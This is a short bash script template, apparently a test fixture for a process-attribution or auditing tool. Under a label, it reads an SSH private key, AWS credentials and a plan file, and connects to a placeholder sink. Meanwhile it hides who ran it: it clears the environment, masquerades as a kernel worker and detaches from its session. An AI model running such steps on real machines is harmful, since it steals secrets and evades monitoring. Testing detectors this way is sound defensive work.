#!/bin/bash
# Sheds everything by which one could tell whose it is: variables, name, session, parent, directory.
# usage: escape.sh LABEL
label=$1
@DEED@ "$label" parent exec
env -i @DEED@ "$label" read "@HOME@/Documents/plan.txt"
(exec -a '[kworker/0:1]' @DEED@ "$label" read "@HOME@/.ssh/id_ed25519")
cd /
@DEED@ "$label" daemon env -i @DEED@ "$label" connect @SINK@ 100
last=$( (setsid env -i /bin/bash -c 'cd /proc && @DEED@ "$0" read "@HOME@/.aws/credentials"' "$label" </dev/null >/dev/null 2>&1 & echo $!) )
# What is still in this session when the call ends is killed with it.
while read -r -a stat 2>/dev/null <"/proc/$last/stat" && [ "${stat[5]}" != "$last" ]; do sleep 0.05; done
echo "Tidied."
